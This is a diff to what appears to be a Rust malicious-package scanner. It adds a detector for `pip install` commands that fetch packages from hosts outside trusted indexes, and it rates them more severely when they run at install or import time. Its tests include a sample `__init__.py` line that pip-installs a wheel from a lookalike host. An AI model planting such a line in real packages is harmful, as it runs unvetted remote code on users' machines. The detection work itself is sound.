@@ -93,6 +93,60 @@ static DEFENSE_EVASION: LazyLock<Regex> = crate::static_regex!(
     "
 );
 
+/// Hosts pip legitimately installs from by URL: the index's own file host and source forges.
+const TRUSTED_PIP_HOSTS: &[&str] = &[
+    "files.pythonhosted.org",
+    "pypi.org",
+    "test.pypi.org",
+    "github.com",
+    "codeload.github.com",
+    "gitlab.com",
+    "bitbucket.org",
+];
+
+/// The host of the archive URL a `pip install` command installs, when it is neither the index's
+/// file host nor a source forge (`pip install https://files.pypihosted.org/…/x.whl`). Index
+/// options (`-i`, `--index-url`, `--extra-index-url`, `-f`) are not what is installed.
+pub fn pip_install_off_index(command: &str) -> Option<String> {
+    static PIP_URL: LazyLock<Regex> =
+        crate::static_regex!(r#"(?i)\bpip[0-9.]*(\.exe)?["']?\s+install\b(?P<args>[^;&|]*)"#);
+    let args = PIP_URL.captures(command)?.name("args")?.as_str();
+    let mut previous = "";
+    for word in args.split_whitespace() {
+        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
+        let takes_value = matches!(
+            previous,
+            "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links" | "--trusted-host"
+        );
+        previous = word;
+        if takes_value || word.starts_with('-') {
+            continue;
+        }
+        let url = word.strip_prefix("git+").unwrap_or(word);
+        let Some(rest) = url
+            .strip_prefix("https://")
+            .or_else(|| url.strip_prefix("http://"))
+        else {
+            continue;
+        };
+        let host = rest
+            .split(['/', ':', '@'])
+            .next()
+            .unwrap_or(rest)
+            .to_ascii_lowercase();
+        if host.is_empty() || host.contains('{') || host.contains('…') {
+            continue;
+        }
+        if !TRUSTED_PIP_HOSTS
+            .iter()
+            .any(|trusted| host == *trusted || host.ends_with(&format!(".{trusted}")))
+        {
+            return Some(host);
+        }
+    }
+    None
+}
+
 /// True when a command line switches off or blinds the machine's defences.
 pub fn disables_defenses(command: &str) -> bool {
     DEFENSE_EVASION.is_match(command)
@@ -234,7 +288,25 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         .as_ref()
         .or(partial.as_ref())
         .filter(|text| disables_defenses(text));
+    let off_index = command
+        .as_ref()
+        .or(partial.as_ref())
+        .and_then(|text| pip_install_off_index(text).map(|host| (text, host)));
     let (severity, tags, message) = match (&command, &partial) {
+        _ if let Some((text, host)) = off_index => (
+            // What pip fetches from an arbitrary server is unvetted code that runs at once;
+            // loading code has no business installing it.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.75,
+                ExecContext::Runtime => 0.3,
+                ExecContext::TestOrDocs => 0.05,
+            },
+            vec!["spawn", "pip-install", "off-index-install"],
+            format!(
+                "{qualname} runs `{}`, which installs a package from {host}, outside any package index",
+                crate::text::shorten(text, 160)
+            ),
+        ),
         _ if let Some(text) = evasion => (
             // Only malware needs the antivirus or the firewall out of its way.
             match context {
@@ -505,6 +577,27 @@ fn classify_command(
 mod tests {
     use super::*;
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn pip_installing_from_an_arbitrary_server_while_loading_is_malicious() {
+        assert_eq!(
+            pip_install_off_index("python -m pip install https://files.pypihosted.org/p/x-1.0.whl"),
+            Some("files.pypihosted.org".to_owned())
+        );
+        assert_eq!(
+            pip_install_off_index("pip install git+https://github.com/a/b.git"),
+            None
+        );
+        assert_eq!(
+            pip_install_off_index("pip install -i https://pypi.example.invalid/simple foo"),
+            None
+        );
+        assert_eq!(pip_install_off_index("pip install requests"), None);
+        let code = "import os, sys\nos.system(f'{sys.executable} -m pip install https://files.pypihosted.org/p/x-1.0.whl')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
+        let forge = "import os\nos.system('pip install git+https://github.com/a/b.git')\n";
+        assert!(max_severity("p/pkg/__init__.py", forge, "WH120") < 0.5);
+    }
 
     #[test]
     fn switching_defences_off_is_malicious_in_any_context() {
